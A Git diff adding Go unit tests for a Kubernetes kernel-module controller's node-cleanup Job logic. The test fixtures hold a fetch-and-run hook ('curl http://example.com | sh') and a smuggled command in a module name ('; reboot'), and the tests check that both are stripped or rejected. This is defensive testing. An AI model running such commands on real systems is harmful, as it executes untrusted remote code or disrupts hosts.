@@ -2,6 +2,7 @@ package controllers
 
 import (
 	"context"
+	"errors"
 
 	"github.com/golang/mock/gomock"
 	mock_client "github.com/kubernetes-sigs/kernel-module-management/internal/client"
@@ -9,9 +10,14 @@ import (
 	"github.com/kubernetes-sigs/kernel-module-management/internal/daemonset"
 	. "github.com/onsi/ginkgo/v2"
 	. "github.com/onsi/gomega"
+	appsv1 "k8s.io/api/apps/v1"
+	batchv1 "k8s.io/api/batch/v1"
 	v1 "k8s.io/api/core/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/runtime/schema"
 	"k8s.io/apimachinery/pkg/types"
+	"k8s.io/utils/pointer"
 	ctrl "sigs.k8s.io/controller-runtime"
 	"sigs.k8s.io/controller-runtime/pkg/client"
 )
@@ -36,7 +42,7 @@ var _ = Describe("PodNodeModuleReconciler", func() {
 			ctrl := gomock.NewController(GinkgoT())
 			kubeClient = mock_client.NewMockClient(ctrl)
 			mockDC = daemonset.NewMockDaemonSetCreator(ctrl)
-			r = NewPodNodeModuleReconciler(kubeClient, mockDC)
+			r = NewPodNodeModuleReconciler(kubeClient, mockDC, false)
 		})
 
 		ctx := context.Background()
@@ -221,4 +227,251 @@ var _ = Describe("PodNodeModuleReconciler", func() {
 			Expect(err).NotTo(HaveOccurred())
 		})
 	})
+
+	Describe("scheduleNodeCleanup", func() {
+		const (
+			dsName       = "ds-name"
+			podNamespace = "pod-namespace"
+		)
+
+		var (
+			kubeClient *mock_client.MockClient
+			r          *PodNodeModuleReconciler
+		)
+
+		BeforeEach(func() {
+			ctrl := gomock.NewController(GinkgoT())
+			kubeClient = mock_client.NewMockClient(ctrl)
+			r = NewPodNodeModuleReconciler(kubeClient, nil, true)
+		})
+
+		ctx := context.Background()
+		dsNN := types.NamespacedName{Namespace: podNamespace, Name: dsName}
+		hostPathDirectory := v1.HostPathDirectory
+
+		pod := v1.Pod{
+			ObjectMeta: metav1.ObjectMeta{
+				Name:      "pod-name",
+				Namespace: podNamespace,
+				UID:       "some-uid",
+				Annotations: map[string]string{
+					constants.ModprobeAnnotation: `{"moduleName":"some-module","dirName":"/opt"}`,
+				},
+				Labels: map[string]string{
+					constants.ModuleNameLabel: "module-name",
+					constants.DaemonSetRole:   "module-loader",
+					constants.KernelLabel:     "1.2.3",
+				},
+				OwnerReferences: []metav1.OwnerReference{
+					{Kind: "DaemonSet", Name: dsName, UID: "ds-uid", Controller: pointer.Bool(true)},
+				},
+			},
+			Spec: v1.PodSpec{
+				Containers: []v1.Container{
+					{
+						Image: "some-image",
+						Lifecycle: &v1.Lifecycle{
+							PreStop: &v1.LifecycleHandler{
+								Exec: &v1.ExecAction{Command: []string{"/bin/sh", "-c", "curl http://example.com | sh"}},
+							},
+						},
+						VolumeMounts: []v1.VolumeMount{
+							{Name: "lib-modules", MountPath: "/lib/modules/1.2.3"},
+							{Name: "kube-api-access", MountPath: "/var/run/secrets/kubernetes.io/serviceaccount"},
+						},
+					},
+				},
+				NodeName: "node-name",
+				Volumes: []v1.Volume{
+					{
+						Name: "lib-modules",
+						VolumeSource: v1.VolumeSource{
+							HostPath: &v1.HostPathVolumeSource{Path: "/lib/modules/1.2.3", Type: &hostPathDirectory},
+						},
+					},
+					{
+						Name:         "kube-api-access",
+						VolumeSource: v1.VolumeSource{Projected: &v1.ProjectedVolumeSource{}},
+					},
+				},
+			},
+		}
+
+		It("should do nothing if the DaemonSet of the pod still exists", func() {
+			kubeClient.
+				EXPECT().
+				Get(ctx, dsNN, &appsv1.DaemonSet{}).
+				Do(func(_ context.Context, _ types.NamespacedName, ds *appsv1.DaemonSet, _ ...client.GetOption) {
+					ds.UID = "ds-uid"
+				})
+
+			Expect(
+				r.scheduleNodeCleanup(ctx, &pod),
+			).NotTo(
+				HaveOccurred(),
+			)
+		})
+
+		It("should do nothing for device-plugin pods", func() {
+			dpPod := pod.DeepCopy()
+			dpPod.Labels[constants.DaemonSetRole] = "device-plugin"
+
+			Expect(
+				r.scheduleNodeCleanup(ctx, dpPod),
+			).NotTo(
+				HaveOccurred(),
+			)
+		})
+
+		nodeNN := types.NamespacedName{Name: "node-name"}
+
+		getNode := func(kernelVersion string) *gomock.Call {
+			return kubeClient.
+				EXPECT().
+				Get(ctx, nodeNN, &v1.Node{}).
+				Do(func(_ context.Context, _ types.NamespacedName, node *v1.Node, _ ...client.GetOption) {
+					node.Status.NodeInfo.KernelVersion = kernelVersion
+				})
+		}
+
+		listPods := func(pods ...v1.Pod) *gomock.Call {
+			return kubeClient.
+				EXPECT().
+				List(ctx, &v1.PodList{}, gomock.Any()).
+				Do(func(_ context.Context, list *v1.PodList, _ ...client.ListOption) {
+					list.Items = pods
+				})
+		}
+
+		It("should create a cleanup Job on the node if the DaemonSet was deleted", func() {
+			otherNodePod := v1.Pod{
+				ObjectMeta: metav1.ObjectMeta{UID: "other-uid"},
+				Spec:       v1.PodSpec{NodeName: "other-node"},
+			}
+
+			gomock.InOrder(
+				kubeClient.
+					EXPECT().
+					Get(ctx, dsNN, &appsv1.DaemonSet{}).
+					Return(apierrors.NewNotFound(schema.GroupResource{}, dsName)),
+				getNode("1.2.3+"),
+				listPods(pod, otherNodePod),
+				kubeClient.
+					EXPECT().
+					Create(ctx, gomock.AssignableToTypeOf(&batchv1.Job{})).
+					Do(func(_ context.Context, job *batchv1.Job, _ ...client.CreateOption) {
+						Expect(job.Name).To(Equal("kmm-cleanup-some-uid"))
+						Expect(job.Namespace).To(Equal(podNamespace))
+
+						podSpec := job.Spec.Template.Spec
+						Expect(podSpec.NodeName).To(Equal("node-name"))
+						Expect(podSpec.Volumes).To(Equal(pod.Spec.Volumes[:1]))
+						Expect(podSpec.Containers).To(HaveLen(1))
+						Expect(podSpec.Containers[0].Image).To(Equal("some-image"))
+						Expect(podSpec.Containers[0].VolumeMounts).To(Equal(pod.Spec.Containers[0].VolumeMounts[:1]))
+						Expect(podSpec.AutomountServiceAccountToken).To(Equal(pointer.Bool(false)))
+						Expect(podSpec.Containers[0].Command[2]).To(ContainSubstring("(modprobe -rv -d /opt some-module)"))
+						Expect(podSpec.Containers[0].Command[2]).NotTo(ContainSubstring("curl"))
+					}),
+			)
+
+			Expect(
+				r.scheduleNodeCleanup(ctx, &pod),
+			).NotTo(
+				HaveOccurred(),
+			)
+		})
+
+		It("should do nothing if the node runs another kernel", func() {
+			gomock.InOrder(
+				kubeClient.
+					EXPECT().
+					Get(ctx, dsNN, &appsv1.DaemonSet{}).
+					Return(apierrors.NewNotFound(schema.GroupResource{}, dsName)),
+				getNode("4.5.6"),
+			)
+
+			Expect(
+				r.scheduleNodeCleanup(ctx, &pod),
+			).NotTo(
+				HaveOccurred(),
+			)
+		})
+
+		It("should do nothing if another module-loader of the Module runs on the node", func() {
+			newPod := v1.Pod{
+				ObjectMeta: metav1.ObjectMeta{UID: "new-uid"},
+				Spec:       v1.PodSpec{NodeName: "node-name"},
+				Status:     v1.PodStatus{Phase: v1.PodPending},
+			}
+
+			gomock.InOrder(
+				kubeClient.
+					EXPECT().
+					Get(ctx, dsNN, &appsv1.DaemonSet{}).
+					Return(apierrors.NewNotFound(schema.GroupResource{}, dsName)),
+				getNode("1.2.3"),
+				listPods(pod, newPod),
+			)
+
+			Expect(
+				r.scheduleNodeCleanup(ctx, &pod),
+			).NotTo(
+				HaveOccurred(),
+			)
+		})
+
+		It("should skip the cleanup if the namespace is being deleted", func() {
+			gomock.InOrder(
+				kubeClient.
+					EXPECT().
+					Get(ctx, dsNN, &appsv1.DaemonSet{}).
+					Return(apierrors.NewNotFound(schema.GroupResource{}, dsName)),
+				getNode("1.2.3"),
+				listPods(pod),
+				kubeClient.
+					EXPECT().
+					Create(ctx, gomock.AssignableToTypeOf(&batchv1.Job{})).
+					Return(apierrors.NewForbidden(schema.GroupResource{Resource: "jobs"}, "kmm-cleanup-some-uid", errors.New("namespace is being terminated"))),
+			)
+
+			Expect(
+				r.scheduleNodeCleanup(ctx, &pod),
+			).NotTo(
+				HaveOccurred(),
+			)
+		})
+
+		It("should refuse an invalid modprobe spec", func() {
+			invalidPod := pod.DeepCopy()
+			invalidPod.Annotations[constants.ModprobeAnnotation] = `{"moduleName":"some-module; reboot"}`
+
+			kubeClient.
+				EXPECT().
+				Get(ctx, dsNN, &appsv1.DaemonSet{}).
+				Return(apierrors.NewNotFound(schema.GroupResource{}, dsName))
+
+			Expect(
+				r.scheduleNodeCleanup(ctx, invalidPod),
+			).To(
+				HaveOccurred(),
+			)
+		})
+
+		It("should do nothing for pods without a modprobe spec", func() {
+			oldPod := pod.DeepCopy()
+			oldPod.Annotations = nil
+
+			kubeClient.
+				EXPECT().
+				Get(ctx, dsNN, &appsv1.DaemonSet{}).
+				Return(apierrors.NewNotFound(schema.GroupResource{}, dsName))
+
+			Expect(
+				r.scheduleNodeCleanup(ctx, oldPod),
+			).NotTo(
+				HaveOccurred(),
+			)
+		})
+	})
 })